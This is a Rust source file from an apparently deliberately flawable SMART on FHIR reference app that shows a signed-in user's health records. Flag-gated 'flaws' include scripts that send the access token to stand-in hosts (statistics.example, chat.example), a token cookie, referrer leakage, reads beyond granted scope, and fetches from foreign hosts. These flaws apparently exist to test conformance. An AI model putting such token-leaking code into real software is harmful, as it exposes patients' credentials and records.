//! Shows the records of a user who has signed in.

use axum::response::Response;
use minijinja::context;
use serde_json::Value;
use url::Url;

use super::facts::{line, person};
use super::page::{Page, trouble_page};
use super::session::{Browser, View};
use crate::protocol::scope::Access as Use;
use crate::reference_app::app::App;
use crate::reference_app::flaw::Flaw;
use crate::reference_app::platform::{Records, Tokens, is_at, read, read_anywhere, search};
use crate::reference_app::serve::Request;
use crate::reference_app::trouble::{Trouble, WayOut};

/// `GET /data?view=…`; without a view it is the newest of this browser.
pub(in crate::reference_app) async fn data(app: &App, request: &Request) -> Response {
    let browser = request.browser();
    let view = request.parameter("view").filter(|_| !app.flawed(Flaw::ShowsNewestPatient));
    shown(app, &browser, view).await
}

/// The records, on a page whose address a third party is told, as only a flawed app does.
pub(super) async fn overheard(app: &App, browser: &Browser, view: &str) -> Response {
    shown_with(app, browser, Some(view), Some(OVERHEARD)).await
}

pub(super) async fn shown(app: &App, browser: &Browser, view: Option<&str>) -> Response {
    shown_with(app, browser, view, None).await
}

async fn shown_with(
    app: &App,
    browser: &Browser,
    view: Option<&str>,
    script: Option<&str>,
) -> Response {
    let found = app.sessions().view(browser, view);
    let Some((id, view)) = found else {
        let trouble = Trouble::new("You are not signed in", "Please sign in.", WayOut::SignIn);
        return trouble_page(app, browser, &trouble, "/data");
    };
    match page(app, &id, &view).await {
        Ok(mut page) => {
            page.script = script.map(str::to_owned).or(page.script);
            page.show(app, browser)
        }
        Err(Unshown::LogIn) => super::page::redirect(app, browser, "/log-in"),
        Err(Unshown::With(trouble)) => {
            if trouble.way_out == WayOut::SignIn {
                app.sessions().close(&id);
            }
            trouble_page(app, browser, &trouble, &app.view_address(&id))
        }
    }
}

/// Why nothing is shown; the app that conforms says why.
enum Unshown {
    With(Trouble),
    LogIn,
}

async fn page(app: &App, id: &str, view: &View) -> Result<Page, Unshown> {
    let tokens = view.access.tokens().await;
    let tokens = tokens.ok_or_else(|| Unshown::With(Trouble::ended("Please sign in again.")))?;
    let records = records(app, view, &tokens).await.map_err(|trouble| match trouble.way_out {
        WayOut::SignIn if app.flawed(Flaw::LogsInByItself) => Unshown::LogIn,
        _ => Unshown::With(trouble),
    })?;
    let (patient, found, user) = records;
    let mut notices = Vec::new();
    if tokens.patient().is_some() && patient.is_none() {
        notices.push("You did not allow this app to see who the patient is.".to_owned());
    }
    let found = match found {
        Found::Records(found) => {
            if found.cut_off {
                notices.push("There is more than this app shows.".to_owned());
            }
            found.found
        }
        Found::NotAllowed(kind) => {
            notices.push(format!("You did not allow this app to see records of the type {kind}."));
            Vec::new()
        }
        Found::Nothing => Vec::new(),
    };
    let context = &tokens.context;
    let wants_banner = context.get("need_patient_banner").and_then(Value::as_bool);
    let has_banner = wants_banner != Some(false);
    let mut page = Page::new("Your records", "data.html");
    page.values = context! {
        view => id,
        patient => patient.as_ref().map(person),
        has_banner => has_banner,
        user => user.as_ref().map(person),
        notices => notices,
        entries => found.iter().map(line).collect::<Vec<_>>(),
        places => launch_places(&tokens),
    };
    if app.flawed(Flaw::TokenInCookie) {
        let token = tokens.access.expose();
        page.cookie = Some(format!("token={token}; Path=/"));
    }
    let token = tokens.access.expose();
    if app.flawed(Flaw::TokenInPixel) {
        page.script =
            Some(format!("new Image().src = 'https://statistics.example/seen.gif?by={token}'"));
    }
    if app.flawed(Flaw::TokenInChat) {
        page.script = Some(format!("new WebSocket('wss://chat.example/?as={token}')"));
    }
    if app.flawed(Flaw::TellsThirdParty) {
        page.script = Some("fetch('https://statistics.example/seen?page=data')".to_owned());
    }
    Ok(page)
}

/// What a search has come to.
enum Found {
    Records(Records),
    /// The user shared less than was asked for.
    NotAllowed(String),
    /// There was no reason to search.
    Nothing,
}

/// The patient, what was found of theirs, and the user: asked for at the same time.
async fn records(
    app: &App,
    view: &View,
    tokens: &Tokens,
) -> Result<(Option<Value>, Found, Option<Value>), Trouble> {
    let patient = match tokens.patient() {
        Some(id) if app.may(tokens, "Patient", Use::Read) => {
            let path = format!("Patient/{id}");
            Some(read(app, &view.access, &view.platform.fhir_base, &path).await?)
        }
        _ => None,
    };
    let (found, user) =
        futures::join!(found(app, view, tokens, patient.as_ref()), user(app, view, tokens));
    Ok((patient, found?, user))
}

async fn found(
    app: &App,
    view: &View,
    tokens: &Tokens,
    patient: Option<&Value>,
) -> Result<Found, Trouble> {
    let query = app.query(tokens, patient).filter(|_| tokens.patient().is_some());
    let Some(query) = query else { return Ok(Found::Nothing) };
    let kind = query.split(['?', '/']).next().unwrap_or_default().to_owned();
    if !app.settings.scope.allows(&kind, Use::Search) || app.flawed(Flaw::LeavesScopeUnused) {
        return Ok(Found::Nothing);
    }
    if !app.may(tokens, &kind, Use::Search) {
        return Ok(Found::NotAllowed(kind));
    }
    let base = &view.platform.fhir_base;
    if app.flawed(Flaw::CallsUndeclared) {
        // What comes of it is of no interest to anybody.
        let id = tokens.patient().unwrap_or_default();
        let _ = search(app, &view.access, base, &format!("Patient?_id={id}")).await;
    }
    if app.flawed(Flaw::ReadsMoreThanGranted) {
        let _ = read(app, &view.access, base, "Immunization/1").await;
    }
    let found = search(app, &view.access, base, &query).await?;
    if app.flawed(Flaw::FollowsReferences) {
        let subjects = found.found.iter().filter_map(|it| it["subject"]["reference"].as_str());
        for url in subjects.filter_map(|subject| Url::parse(subject).ok()) {
            let _ = read_anywhere(app, &view.access, &url).await;
        }
    }
    Ok(Found::Records(found))
}

/// The user's own resource. It is read only where the token may go; without it nothing is lost.
async fn user(app: &App, view: &View, tokens: &Tokens) -> Option<Value> {
    let reference = view.identity.as_ref()?.fhir_user.as_deref()?;
    if !app.demand(Flaw::TakesAllAsGranted, tokens.scope.contains("fhirUser")) {
        return None;
    }
    let base = &view.platform.fhir_base;
    let folder = Url::parse(&format!("{}/", base.as_str().trim_end_matches('/'))).ok()?;
    let is_relative = Url::parse(reference).is_err();
    if is_relative && app.flawed(Flaw::FhirUserAbsoluteOnly)
        || !is_relative && app.flawed(Flaw::FhirUserRelativeOnly)
    {
        return None;
    }
    let url = folder.join(reference).ok()?;
    if !app.demand(Flaw::FetchesForeignUser, is_at(base, &url)) {
        return None;
    }
    let path = url.as_str().strip_prefix(folder.as_str()).unwrap_or(reference);
    if Some(path) == tokens.patient().map(|id| format!("Patient/{id}")).as_deref() {
        // The patient signed in, who is shown anyway.
        return None;
    }
    if !is_at(base, &url) {
        return read_anywhere(app, &view.access, &url).await.ok();
    }
    read(app, &view.access, base, path).await.ok()
}

/// Where the app was launched: what `fhirContext` refers to without another role (SMART App Launch
/// 2.2, `fhirContext`).
fn launch_places(tokens: &Tokens) -> Vec<String> {
    let items = tokens.context.get("fhirContext").and_then(Value::as_array);
    let items = items.into_iter().flatten().filter(|item| match item.get("role") {
        None => true,
        Some(role) => role == "launch",
    });
    items.filter_map(|item| item["reference"].as_str().map(str::to_owned)).collect()
}

impl App {
    /// The search of the settings, filled in; a parameter without a value is left out.
    fn query(&self, tokens: &Tokens, patient: Option<&Value>) -> Option<String> {
        let query = &self.settings.query;
        let (kind, parameters) = query.split_once('?').unwrap_or((query, ""));
        if kind.is_empty() {
            return None;
        }
        let filled = parameters.split('&').filter_map(|parameter| {
            let Some((before, name)) = parameter.split_once('$') else {
                return Some(parameter.to_owned());
            };
            if before == "ah-practice=" && self.flawed(Flaw::PracticeForgotten) {
                return None;
            }
            let value = match name {
                "organization" => patient?["managingOrganization"]["reference"].as_str(),
                name => tokens.context.get(name)?.as_str(),
            };
            let value: String = url::form_urlencoded::byte_serialize(value?.as_bytes()).collect();
            Some(format!("{before}{value}"))
        });
        let filled: Vec<String> = filled.filter(|it| !it.is_empty()).collect();
        Some(format!("{kind}?{}", filled.join("&")))
    }

    /// Whether the app may use a type of resource.
    fn may(&self, tokens: &Tokens, kind: &str, access: Use) -> bool {
        self.demand(Flaw::TakesAllAsGranted, tokens.scope.allows(kind, access))
    }

    /// Where a view is shown.
    pub(super) fn view_address(&self, view: &str) -> String {
        format!("/data?view={view}")
    }
}

const OVERHEARD: &str = "fetch('https://statistics.example/seen', { mode: 'no-cors', \
    referrerPolicy: 'unsafe-url' }); history.replaceState({}, '', '/data')";
